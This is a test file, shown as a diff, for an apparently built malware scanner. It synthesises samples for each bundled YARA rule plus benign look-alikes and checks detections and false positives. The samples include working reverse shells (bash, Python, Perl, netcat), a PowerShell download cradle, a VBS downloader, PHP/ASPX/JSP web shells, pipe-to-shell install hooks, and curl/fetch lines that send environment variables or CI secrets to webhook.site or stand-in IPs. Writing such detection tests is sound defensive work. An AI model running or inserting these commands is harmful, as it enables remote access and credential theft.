@@ -1,0 +1,274 @@
+// End to end: the bundled signature set in the built binary. For every rule the test writes a
+// sample made only of the rule's public indicator strings (inert fragments, never working
+// malware), plus benign look-alikes that name the same techniques the way documentation does;
+// then ONE scan of the folder must detect each sample by exactly its rule(s) and nothing else.
+// A last test scans the project's own node_modules: the set must find nothing there.
+import * as fs from "node:fs";
+import * as path from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { EICAR, ROOT, json, ring3, tempDir, write, type Json } from "./helpers";
+
+/** PE/ELF stand-ins: the magic, zero padding, then the given parts. No code, nothing runnable. */
+const pe = (...parts: (string | Buffer)[]) => Buffer.concat([Buffer.from("MZ"), Buffer.alloc(126), ...parts.map((p) => (typeof p === "string" ? Buffer.from(p, "latin1") : p))]);
+const elf = (...parts: (string | Buffer)[]) => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(57), ...parts.map((p) => (typeof p === "string" ? Buffer.from(p, "latin1") : p))]);
+const wide = (s: string) => Buffer.from(s + "\0", "utf16le");
+const z = (s: string) => Buffer.from(s + "\0", "latin1");
+const hex = (s: string) => Buffer.from(s.replace(/\s+/g, ""), "hex");
+
+// A Monero-shaped address: 95 base58 characters starting with 4 (not a real wallet).
+const XMR = "4" + "8ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz123456789".repeat(2).slice(0, 94);
+// A long base64 blob of UTF-16LE text, as -EncodedCommand takes it (harmless text).
+const ENCODED = Buffer.from("Write-Output 'ring3 encoded command test';".repeat(4), "utf16le").toString("base64");
+// The tj-actions payload shape: the memdump pipeline, carried base64-encoded inside index.js.
+const MEMDUMP =
+  "B64_BLOB=`curl -sSf https://gist.githubusercontent.com/nikitastupin/30e525b776c409e03c2d6f328f254965/raw/memdump.py | sudo python3 | " +
+  "tr -d '\\0' | grep -aoE '\"[^\"]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}' | sort -u | base64 -w 0 | base64 -w 0`";
+
+/** file -> the ids of the bundled YARA rules that must detect it (exactly these). */
+const SAMPLES: Record<string, { ids: string[]; data: string | Buffer }> = {
+  // Test files
+  "test/eicar.com": { ids: ["ring3.test.eicar"], data: EICAR },
+  "test/gtube.eml": { ids: ["ring3.test.gtube"], data: "Subject: test\r\n\r\nXJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X\r\n" },
+
+  // Supply chain
+  "supply/flatmap-stream/index.min.js": {
+    ids: ["ring3.supplychain.flatmap_stream"],
+    data:
+      '!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}' +
+      'var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;' +
+      'var f=new module.constructor;f.paths=module.paths}catch(r){}}();\n',
+  },
+  "supply/ua-parser-js/preinstall.sh": {
+    ids: ["ring3.supplychain.ua_parser_js_2021"],
+    data: "curl http://159.148.186.228/download/jsextension -o jsextension\nchmod +x jsextension\n",
+  },
+  "supply/node-ipc/dao/ssl-geospec.js": {
+    ids: ["ring3.supplychain.node_ipc_2022"],
+    data:
+      'const n = Buffer.from("aHR0cHM6Ly9hcGkuaXBnZW9sb2NhdGlvbi5pby9pcGdlbz9hcGlLZXk9YWU1MTFlMTYyNzgyNGE5NjhhYWFhNzU4YTUzMDkxNTQ=", "base64");\n' +
+      'const c = Buffer.from("Y291bnRyeV9uYW1l", "base64");\nconst e = Buffer.from("cnVzc2lh", "base64");\nconst i = Buffer.from("YmVsYXJ1cw==", "base64");\n',
+  },
+  "supply/peacenotwar/index.js": {
+    ids: ["ring3.supplychain.peacenotwar_2022"],
+    data: "const f = find(Desktops, 'WITH-LOVE-FROM-AMERICA.txt');\nfunction deliverAPeacefulMessage(path, message) {}\n",
+  },
+  "supply/xz/m4/build-to-host.m4": {
+    ids: ["ring3.supplychain.xz_build_to_host"],
+    data:
+      'gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`\n' +
+      "gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n" +
+      "gl_[$1]_config='sed \\\"r\\n\\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'\n",
+  },
+  "supply/xz/liblzma.so.5.6.1": {
+    ids: ["ring3.supplychain.xz_liblzma_backdoor"],
+    data: elf(hex("f3 0f 1e fa 55 48 89 f5 4c 89 ce 53 89 fb 81 e7 00 00 00 80 48 83 ec 28 48 89 54 24 18 48 89 4c 24 10")),
+  },
+  "supply/codecov/codecov.sh": {
+    ids: ["ring3.supplychain.codecov_bash_uploader"],
+    data: '#!/bin/bash\ncurl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" https://198.51.100.1/upload/v2 || true\n',
+  },
+  "supply/solarwinds/SolarWinds.Orion.Core.BusinessLayer.dll": {
+    ids: ["ring3.supplychain.solarwinds_sunburst"],
+    data: pe(hex("67 19 D8 A7 3B 90 AC 5B"), wide("U4qpjjbQtUzUTdONrTY2q42pVapRgooABYxQuIZmtUoA")),
+  },
+  "supply/3cx/ffmpeg.dll": {
+    ids: ["ring3.supplychain.3cx_suddenicon"],
+    data: pe(wide("https://raw.githubusercontent.com/IconStorages/images/main/icon%d.ico"), z("__tutma")),
+  },
+  "supply/tj-actions/dist/index.js": {
+    ids: ["ring3.supplychain.tj_actions_memdump"],
+    data: `const SHELL = Buffer.from("${Buffer.from(MEMDUMP).toString("base64")}", "base64").toString();\n`,
+  },
+  "supply/shai-hulud/.github/workflows/shai-hulud-workflow.yml": {
+    ids: ["ring3.supplychain.shai_hulud"],
+    data:
+      "on:\n  push:\njobs:\n  process:\n    runs-on: ubuntu-latest\n    steps:\n" +
+      '      - run: curl -d "$CONTENTS" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7; echo "$CONTENTS" | base64 -w 0 | base64 -w 0\n' +
+      "        env:\n          CONTENTS: ${{ toJSON(secrets) }}\n",
+  },
+  "supply/shai-hulud-2/package.json": {
+    ids: ["ring3.supplychain.shai_hulud_2"],
+    data: '{\n  "name": "victim",\n  "version": "1.0.1",\n  "scripts": {\n    "preinstall": "node setup_bun.js"\n  }\n}\n',
+  },
+  "supply/chalk/index.js": {
+    ids: ["ring3.supplychain.chalk_debug_drainer"],
+    data:
+      'if (typeof window != "undefined") { const x = XMLHttpRequest; const cs = "qpzry9x8gf2tvdw0s3jn54khce6mua7l";\n' +
+      "const kinds = ['ethereum', 'bitcoinLegacy', 'bitcoinSegwit']; checkethereumw(); }\n",
+  },
+  "supply/install-hook/package.json": {
+    ids: ["ring3.supplychain.install_script_pipe_to_shell"],
+    data: '{\n  "name": "innocent",\n  "scripts": {\n    "postinstall": "curl -fsSL https://example.invalid/setup.sh | bash"\n  }\n}\n',
+  },
+  "supply/ci-exfil/collect.js": {
+    ids: ["ring3.supplychain.ci_secret_exfiltration"],
+    data: 'fetch("https://webhook.site/00000000-0000-0000-0000-000000000000", { method: "POST", body: JSON.stringify(process.env) });\n',
+  },
+
+  // Scripts
+  "scripts/update.bat": {
+    ids: ["ring3.script.powershell_download_cradle"],
+    data: "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"\r\n",
+  },
+  "scripts/launch.cmd": { ids: ["ring3.script.powershell_encoded_command"], data: `powershell.exe -NoP -NonI -W Hidden -enc ${ENCODED}\r\n` },
+  "scripts/invoice.vbs": {
+    ids: ["ring3.script.wsh_downloader"],
+    data:
+      'Set x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "http://example.invalid/a.exe", False\r\nx.Send\r\n' +
+      'Set s = CreateObject("ADODB.Stream")\r\ns.Type = 1\r\ns.Open\r\ns.Write x.responseBody\r\ns.SaveToFile "a.exe", 2\r\n' +
+      'CreateObject("WScript.Shell").Run "a.exe", 0\r\n',
+  },
+  "scripts/rs.sh": { ids: ["ring3.script.reverse_shell_bash"], data: "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n" },
+  "scripts/rs.py": {
+    ids: ["ring3.script.reverse_shell_python"],
+    data:
+      "import socket,subprocess,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"203.0.113.7\",4444))\n" +
+      'os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\npty.spawn("/bin/sh")\n',
+  },
+  "scripts/nc.sh": { ids: ["ring3.script.reverse_shell_netcat"], data: "nc -e /bin/sh 203.0.113.7 4444\n" },
+  "scripts/rs.pl": {
+    ids: ["ring3.script.reverse_shell_perl"],
+    data:
+      'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));' +
+      'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\n',
+  },
+  "scripts/cron.sh": { ids: ["ring3.script.pipe_to_shell_from_ip"], data: "*/5 * * * * curl -fsSL http://203.0.113.7/x.sh | sh\n" },
+
+  // Web shells
+  "web/up.php": { ids: ["ring3.webshell.php_eval_request"], data: "<?php @eval(base64_decode($_POST['z0'])); ?>\n" },
+  "web/chopper.php": { ids: ["ring3.webshell.php_eval_request"], data: "<?php @eval($_POST['password']);?>\n" },
+  "web/cmd.php": { ids: ["ring3.webshell.php_exec_request"], data: "<?php system($_GET['cmd']); ?>\n" },
+  "web/chopper.aspx": { ids: ["ring3.webshell.china_chopper_aspx"], data: '<%@ Page Language="Jscript"%><%eval(Request.Item["password"],"unsafe");%>\n' },
+  "web/cmd.aspx": {
+    ids: ["ring3.webshell.aspx_cmd_request"],
+    data:
+      '<%@ Page Language="C#" %>\n<% var psi = new System.Diagnostics.ProcessStartInfo();\npsi.FileName = "cmd.exe";\n' +
+      'psi.Arguments = "/c " + Request.Form["c"];\nSystem.Diagnostics.Process.Start(psi); %>\n',
+  },
+  "web/cmd.jsp": { ids: ["ring3.webshell.jsp_runtime_exec"], data: '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>\n' },
+
+  // Tools and payloads
+  "tools/config.json": {
+    ids: ["ring3.tool.xmrig_config"],
+    data:
+      '{\n  "donate-level": 1,\n  "randomx": { "1gb-pages": false },\n  "pools": [\n    { "url": "pool.example.invalid:3333", "user": "x", ' +
+      '"rig-id": null, "nicehash": false, "keepalive": true }\n  ]\n}\n',
+  },
+  "tools/xmrig": { ids: ["ring3.tool.xmrig_binary"], data: elf(z("XMRig"), z("donate.v2.xmrig.com"), z("--donate-level")) },
+  "tools/start.sh": { ids: ["ring3.tool.miner_command_monero"], data: `./kworker -o pool.example.invalid:443 -u ${XMR} -k --tls\n` },
+  "tools/mimi.exe": { ids: ["ring3.tool.mimikatz"], data: pe(wide("gentilkiwi"), wide("sekurlsa"), wide("logonPasswords"), wide("lsadump")) },
+  "tools/Invoke-Mimikatz.ps1": {
+    ids: ["ring3.tool.invoke_mimikatz"],
+    data: "function Invoke-Mimikatz {\n$PEBytes64 = 'TVqQAAMAAAAEAAAA'\n$PEBytes32 = 'TVqQAAMAAAAEAAAA'\n}\n",
+  },
+  "tools/beacon.dll": {
+    ids: ["ring3.tool.cobaltstrike_beacon"],
+    data: pe(z("%s as %s\\%s: %d"), z("could not spawn %s (token): %d"), z("I'm already in SMB mode"), z("%02d/%02d/%02d %02d:%02d:%02d")),
+  },
+  "tools/metsrv.dll": { ids: ["ring3.tool.metasploit_meterpreter"], data: pe(z("metsrv.dll"), z("ReflectiveLoader")) },
+  "tools/stager.bin": {
+    ids: ["ring3.tool.metasploit_block_api"],
+    data: hex("FC E8 82 00 00 00 60 89 E5 31 C0 64 8B 50 30 8B 52 0C 8B 52 14 8B 72 28 0F B7 4A 26 31 FF AC 3C 61 7C 02 2C 20"),
+  },
+  "tools/implant": {
+    ids: ["ring3.tool.sliver_implant"],
+    data: elf(z("github.com/bishopfox/sliver/protobuf/sliverpb"), z("github.com/bishopfox/sliver/implant/sliver/transports")),
+  },
+  "tools/mssecsvc.exe": { ids: ["ring3.tool.wannacry"], data: pe(z("WNcry@2ol7"), z("tasksche.exe"), z("icacls . /grant Everyone:F /T /C /Q")) },
+};
+
+/** Benign files that name the same things the way manuals, READMEs and application code do. */
+const BENIGN: Record<string, string> = {
+  "benign/bash.1":
+    ".TP\n.B /dev/tcp/\\fIhost\\fP/\\fIport\\fP\nIf \\fIhost\\fP is a valid hostname or Internet address, and \\fIport\\fP is an integer port number\n" +
+    "or service name, bash attempts to open the corresponding TCP socket.\n",
+  "benign/nc.1": ".TP\n.B \\-e \\fIfilename\\fP\nspecify filename to exec after connect (use with caution).\nExample: nc -l -p 1234\n",
+  "benign/README.md":
+    "# Install\n\n    curl -fsSL https://get.example.invalid | sh\n\nNever run `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1` from a stranger.\n" +
+    'Codecov\'s 2021 compromise added: curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://x/upload/v2\n',
+  "benign/INSTALL.txt": "To install rustup run: curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n",
+  "benign/app/package.json": '{\n  "name": "app",\n  "scripts": {\n    "postinstall": "node scripts/postinstall.js",\n    "build": "tsc"\n  }\n}\n',
+  "benign/install-choco.ps1":
+    "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n",
+  "benign/form.php": "<?php $name = htmlspecialchars($_POST['name']); $raw = base64_decode($payload); echo $name; ?>\n",
+  "benign/config.js": "const cfg = { debug: process.env.DEBUG === '1' }; console.log(JSON.stringify(cfg));\n",
+  "benign/notes.txt": "Mimikatz by gentilkiwi dumps credentials with sekurlsa::logonpasswords; Cobalt Strike beacons print '%s as %s\\%s: %d'.\n",
+  "benign/server.py": "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.bind(('127.0.0.1', 8080))\ns.listen()\n",
+  "benign/miner-docs.txt": 'XMRig reads config.json: { "donate-level": 1, "pools": [] } - see https://xmrig.com/docs/miner/config\n',
+  // A rule set quoting indicators is not what it describes (the guard rule).
+  "benign/rules/codecov.yar":
+    'rule Codecov {\n    strings:\n        $a = "$(git remote -v)<<<<<< ENV $(env)"\n        $b = "webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7"\n    condition:\n        any of them\n}\n',
+};
+
+let dir: string;
+let doc: Json;
+
+beforeAll(() => {
+  dir = tempDir("ring3-sigs-");
+  for (const [rel, s] of Object.entries(SAMPLES)) write(dir, rel, s.data);
+  for (const [rel, text] of Object.entries(BENIGN)) write(dir, rel, text);
+  const run = ring3(["scan", "--format", "json", dir], { timeout: 300_000 });
+  expect(run.code, run.stderr).toBe(1);
+  doc = json(run);
+});
+
+afterAll(() => {
+  fs.rmSync(dir, { recursive: true, force: true });
+});
+
+function resultFor(rel: string): Json {
+  return doc.results.find((r: Json) => path.relative(dir, r.path).split(path.sep).join("/") === rel);
+}
+
+describe("the bundled set on synthesised samples (one scan)", () => {
+  it("scans every file completely", () => {
+    const files = Object.keys(SAMPLES).length + Object.keys(BENIGN).length;
+    expect(doc.summary).toMatchObject({ files, error: 0, partial: 0, incomplete: 0 });
+  });
+
+  it("every bundled YARA rule that reports has a sample here", () => {
+    const run = ring3(["rules", "list", "--json"]);
+    expect(run.code).toBe(0);
+    const ids = json(run)
+      .rules.filter((r: Json) => r.engine === "yara" && r.category !== "guard")
+      .map((r: Json) => r.id)
+      .sort();
+    const covered = [...new Set(Object.values(SAMPLES).flatMap((s) => s.ids))].sort();
+    expect(covered).toEqual(ids);
+  });
+
+  it.each(Object.entries(SAMPLES).map(([rel, s]) => [rel, s.ids] as const))("%s -> %j", (rel, ids) => {
+    const r = resultFor(rel);
+    expect(r?.verdict, `${rel} not detected`).toBe("detected");
+    const yara = r.findings.filter((f: Json) => f.engine === "yara");
+    expect(yara.map((f: Json) => f.id).sort()).toEqual([...ids].sort());
+    for (const f of yara) {
+      expect(f.namespace).toBe("ring3");
+      expect(f.references.length).toBeGreaterThan(0);
+      expect(f.action?.length ?? 0).toBeGreaterThan(0);
+    }
+  });
+
+  it.each(Object.keys(BENIGN))("benign look-alike %s is not detected", (rel) => {
+    expect(resultFor(rel), rel).toBeUndefined();
+  });
+
+  it("detects nothing else", () => {
+    const detected = doc.results.filter((r: Json) => r.verdict === "detected").length;
+    expect(detected).toBe(Object.keys(SAMPLES).length);
+    expect(doc.summary.detected).toBe(Object.keys(SAMPLES).length);
+  });
+});
+
+describe("false positives", () => {
+  it("finds nothing in the project's own node_modules", () => {
+    const run = ring3(["scan", "--format", "json", path.join(ROOT, "node_modules")], { timeout: 900_000 });
+    const d = json(run);
+    const hits = d.results.filter((r: Json) => r.verdict === "detected").map((r: Json) => `${r.path}: ${r.findings.map((f: Json) => f.rule).join(", ")}`);
+    expect(hits).toEqual([]);
+    expect(d.summary.detected).toBe(0);
+    // Only files that were really scanned count as evidence.
+    expect(d.summary.error).toBe(0);
+    expect(d.summary.files).toBeGreaterThan(1000);
+  }, 900_000);
+});
